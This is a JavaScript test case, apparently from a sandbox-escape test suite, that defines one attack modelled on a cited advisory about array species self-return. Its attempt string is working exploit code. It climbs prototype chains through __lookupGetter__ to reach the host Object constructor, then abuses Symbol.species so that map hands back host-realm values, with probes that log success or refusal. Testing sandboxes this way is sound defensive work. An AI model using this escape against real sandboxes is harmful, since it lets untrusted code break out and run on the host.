import { attack } from '../attack.js';

export const callWithUnwrapBySpecies = attack({
  class: 'constructors',
  name: 'an array of the host whose species is itself keeps what map puts in',
  modelled_on: 'GHSA-grj5-jjm8-h35p (array species self-return)',
  attempt: `
    const lookup = ({}).__lookupGetter__, B = globalThis.Buffer;
    const apply = B?.apply ?? console.log.apply;
    const up = apply.apply(lookup, [B ?? console.log, ['__proto__']]);
    const top = up.call(up.call(up.call(up.call(B?.of?.() ?? new Uint8Array(1)))));
    const hostObject = top.constructor;
    const raw = (f, self, args) => {
      const list = hostObject.entries({});
      args.unshift(self);
      const bound = apply.apply(apply.bind, [f, args]);
      list[0] = 0;
      function species() { return list } species[Symbol.species] = species;
      for (const set of [() => { list.constructor = species }, () => hostObject.assign(list, { constructor: species }), () => hostObject.defineProperty(list, 'constructor', { value: species, configurable: true, writable: true })]) {
        try { set(); list.map(bound); probe(list[0], 'raw') } catch (e) { probe(e, 'refusal') }
      }
      return list;
    };
    const d = raw(apply, lookup, [hostObject.freeze, ['__proto__']]); probe(d[0], 'd');
    const e = raw(apply, d[0], [hostObject.entries({}), ['call']]); probe(e[0], 'e'); probe(raw(apply, apply, [e[0]])[0], 'c');`,
});
